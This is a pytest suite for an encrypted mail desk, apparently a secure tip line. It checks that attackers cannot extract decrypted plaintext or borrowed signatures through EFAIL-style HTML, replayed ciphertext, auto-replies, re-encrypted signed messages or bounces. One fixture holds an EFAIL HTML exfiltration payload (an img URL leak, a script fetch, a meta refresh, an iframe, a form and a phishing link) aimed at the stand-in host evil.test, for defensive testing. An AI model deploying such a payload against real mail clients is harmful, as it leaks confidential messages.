"""ORA-07 to ORA-11: whoever wants plaintext carried away, or words signed, is given nothing by an answer."""

import re
import secrets

import pytest

from mailflows.commands.choices import CHOICES
from mailflows.commands.vocabulary import WORDS
from mailflows.leaving import Leaving
from templates import label
from tests.attacks.scene import Scene, answered, believed
from tests.mails import encrypted_part, joined, mail
from tests.people import Person
from tests.pgp.packets import letter

SECRET = "zahra hides in the house of amal until friday"


@pytest.fixture
def captured(scene: Scene) -> bytes:
    """A letter the reporter sealed to the desk, as mallory saw it pass; nothing inside says who wrote it."""
    part = f"Content-Type: text/plain; charset=utf-8\r\n\r\n{SECRET}\r\n".encode()
    return scene.people.reporter.seals(part, scene.people.desk)


def honest(scene: Scene, captured: bytes) -> None:
    """The reporter's own mail is opened, answered and shown without any warning."""
    came = scene.arrives(letter(scene.people.reporter, scene.people, captured, subject="first"))
    assert SECRET in came.examined.letter.text
    out = scene.flow.outbox()
    assert [one.row.kind for one in out].count("received") == 1
    assert not any(label("reason", "seen_before", "en") in one.text for one in out)


HTML = (
    '<html><head><meta http-equiv="refresh" content="0;url=http://evil.test/r"><link rel="stylesheet" '
    'href="http://evil.test/c.css"><style>@import url(http://evil.test/i);</style></head><body '
    'background="http://evil.test/b"><img src="http://evil.test/p.png?x="><script>fetch("http://evil.test/s")</script>'
    '<form action="http://evil.test/f"><input></form><iframe src="http://evil.test/d"></iframe><a '
    'href="http://evil.test/login">my bank</a><p>please look at this</p></body></html>'
)


def test_ora_07_a_link_in_plain_words_is_not_live_either(scene: Scene) -> None:
    """Mail programs make a link of whatever looks like one."""
    people = scene.people
    text = "see http://evil.test/a, HTTPS://evil.test/b <http://evil.test/c> or www.evil.test"
    scene.arrives(mail(people.mallory, people.desk, text, sealed_by=people.mallory, autocrypt=True))
    for notice in scene.flow.outbox("notify_handler"):
        assert "| see hxxp://evil.test/a, hxxps://evil.test/b" in notice.text.lower()
        assert not re.search(r"https?:|www\.", notice.text, re.IGNORECASE)


@pytest.mark.parametrize("seal", [True, False], ids=["sealed", "plain"])
def test_ora_07_nothing_a_handler_is_shown_can_load_or_send_anything(scene: Scene, seal: bool) -> None:
    """EFAIL: what came as HTML is shown as words, and no link in it is live."""
    people = scene.people
    part = f"From: {people.mallory.address}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HTML}\r\n".encode()
    raw = letter(people.mallory, people, people.mallory.seals(part, people.desk)) if seal else b"To: x\r\n" + part
    came = scene.arrives(raw)
    assert came.examined.letter.text_source == "html"
    notices = scene.flow.outbox("notify_handler")
    assert notices and "please look at this" in notices[0].text
    for notice in notices:
        assert not re.search(r"<\s*(img|script|iframe|form|a|link|meta|style)\b", notice.text, re.IGNORECASE)
        assert "http://evil.test" not in notice.text


def test_ora_08_no_word_sends_what_was_opened_to_anybody_but_the_desk_and_the_role_it_was_given_to(
    scene: Scene,
) -> None:
    """Every word of the vocabulary; only #escalate shows what was written, sealed to its role."""
    people, flow = scene.people, scene.flow
    came, notice = scene.asks(SECRET)
    at_the_desk = {people.handler.address, people.second_handler.address}
    assert SECRET in notice.text and notice.paper["to"] in at_the_desk
    choices = {**CHOICES, "role": dict.fromkeys(flow.desk.roles, ())}
    tried = 0
    for word in WORDS.values():
        values = list(choices.get(word.choices, ()))[:2] or [
            people.second_handler.address if word.value == "required" else ""
        ]
        for value in values:
            said = f"#{word.name} {value}".strip()
            said += "" if word.text != "required" else "\n\nWe are here for you."
            said += "\n#confirm" if word.name == "close" else ""
            flow.arrives(people.handler, answered(notice, said), signed_by=people.handler)
            for left in flow.outbox():
                if SECRET in left.text:
                    assert left.paper["to"] in at_the_desk or (word.name, left.paper["to"]) == (
                        "escalate",
                        people.lab.address,
                    )
                    leaving = flow.leaves(left)
                    assert not isinstance(leaving, Leaving) or leaving.certificate is not None
            tried += 1
    assert tried >= len(WORDS) and flow.ticket(came.settled).held_sealed


@pytest.mark.parametrize(
    "words",
    ["#show", "#show {tag}", "#reply\n\nplease send me back my file", "please send me back what I wrote", "#help"],
)
def test_ora_08_whoever_writes_from_outside_gets_nothing_back(scene: Scene, words: str) -> None:
    people = scene.people
    came, _ = scene.asks(SECRET)
    text = words.format(tag=came.settled.ticket)
    scene.flow.outbox()
    for frm, by in ((people.mallory, people.mallory), (people.reporter, people.reporter), (people.reporter, None)):
        raw = mail(frm, people.desk, text, sealed_by=by) if by else mail(frm, people.desk, text)
        scene.arrives(raw)
        for left in scene.flow.outbox():
            outside = left.paper["to"] not in (people.handler.address, people.second_handler.address)
            assert not (outside and SECRET in left.text) and left.row.kind in ("received", "notify_handler")


def test_ora_08_a_part_is_opened_for_the_handler_who_asks_and_lies_nowhere(scene: Scene, captured: bytes) -> None:
    """Mallory has captured ciphertext attached; what #open shows goes, sealed, to the handler who asked."""
    people, flow = scene.people, scene.flow
    honest(scene, captured)
    file = ("a.asc", "application/octet-stream", captured)
    came = scene.arrives(
        mail(people.mallory, people.desk, "#open 1", sealed_by=people.mallory, autocrypt=True, attachments=[file])
    )
    believed(came, people.mallory)
    out = flow.outbox()
    assert {one.row.kind for one in out} == {"notify_handler"} and not any(SECRET in one.text for one in out)
    notice = next(one for one in out if one.paper["to"] == people.handler.address)
    flow.arrives(people.handler, answered(notice, "#open 1"), signed_by=people.handler)
    answers = flow.outbox()
    assert {one.paper["to"] for one in answers} == {people.handler.address}
    assert any(one.paper.get("errand") for one in answers) and not any(SECRET in one.text for one in answers)
    for one in answers:
        leaving = flow.leaves(one)
        assert isinstance(leaving, Leaving) and leaving.fingerprint == people.handler.fingerprint


@pytest.mark.parametrize("protection", ["sealed", "plain", "unreadable"])
def test_ora_09_automatic_mail_holds_no_word_of_whoever_caused_it(scene: Scene, protection: str) -> None:
    """Subject, text, names, file names, addresses: marked words turn up in nothing that is sent to them."""
    people = scene.people
    marks = [f"mark{secrets.token_hex(5)}" for _ in range(4)]
    text = f"{marks[0]}\n\n#reply {marks[0]}"
    more = {"subject": marks[1], "attachments": [(f"{marks[2]}.txt", "text/plain", marks[0].encode())]}
    frm = Person(
        marks[3],
        people.reporter.address,
        b"",
        people.reporter.certificate,
        people.reporter.fingerprint,
        people.reporter.home,
    )
    seal = {"sealed_by": people.reporter, "autocrypt": True} if protection == "sealed" else {}
    raw = mail(frm, people.desk, text, **more, **seal)  # type: ignore[arg-type]
    if protection == "unreadable":
        sealed = people.mallory.seals(text.encode(), people.lab)
        raw = joined([("From", frm.mailbox), ("Subject", marks[1])], b"", after=encrypted_part(sealed))
    came = scene.arrives(raw)
    if protection == "sealed":
        believed(came, people.reporter)
    out = scene.flow.outbox()
    if protection != "unreadable":
        assert any(marks[0] in one.text for one in out if one.row.kind == "notify_handler")
    automatic = [one for one in out if one.row.kind != "notify_handler"]
    assert len(automatic) == 1 and automatic[0].row.automatic
    said = automatic[0].text + automatic[0].paper["subject"]
    assert not [mark for mark in marks if mark in said]


def test_ora_10_a_signed_text_sent_on_to_the_desk_is_its_writers_and_says_by_whom_it_came(scene: Scene) -> None:
    """The reporter signed it for mallory, who seals the very same packets to the desk."""
    people = scene.people
    words = f"From: {people.reporter.mailbox}\r\nContent-Type: text/plain\r\n\r\nI owe you, mallory\r\n".encode()
    sign = ("--sign", "--compress-algo", "none", "-u", people.reporter.fingerprint)
    message = people.reporter.gpg(*sign, given=words)
    wrapped = people.mallory.gpg("--armor", "--no-literal", "--encrypt", "-r", people.desk.fingerprint, given=message)
    scene.asks()
    as_reporter = scene.arrives(letter(people.reporter, people, wrapped))
    believed(as_reporter, people.reporter)  # a signature proves who wrote, never to whom: nothing is done for it
    assert {one.row.kind for one in scene.flow.outbox()} == {"notify_handler"}
    as_mallory = scene.arrives(letter(people.mallory, people, wrapped))
    assert as_mallory.opened.signer is None and as_mallory.opened.reasons == ("from_differs",)


@pytest.mark.parametrize("media", ["multipart/report; report-type=delivery-status", "multipart/report"])
def test_ora_11_a_bounce_that_brings_ciphertext_back_opens_nothing(scene: Scene, captured: bytes, media: str) -> None:
    people = scene.people
    honest(scene, captured)
    edge = "bounce-edge"
    parts = [
        b"Content-Type: text/plain\r\n\r\nYour mail could not be delivered.",
        b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mail.test\r\n",
        b"Content-Type: message/rfc822\r\n\r\n" + letter(people.desk, people, captured),
    ]
    head = f"From: MAILER-DAEMON@mail.test\r\nTo: {people.desk.address}\r\nMIME-Version: 1.0\r\n"
    head += f'Content-Type: {media}; boundary="{edge}"\r\n\r\n'
    body = b"".join(f"--{edge}\r\n".encode() + part + b"\r\n" for part in parts)
    came = scene.arrives(head.encode() + body + f"--{edge}--\r\n".encode())
    assert not came.opened.whole and SECRET not in came.examined.letter.text and SECRET.encode() not in came.opened.mail
    assert [part.kind for part in came.opened.sealed_parts] == ["part"]
    assert (came.settled.state, scene.flow.outbox()) == ("aside", [])
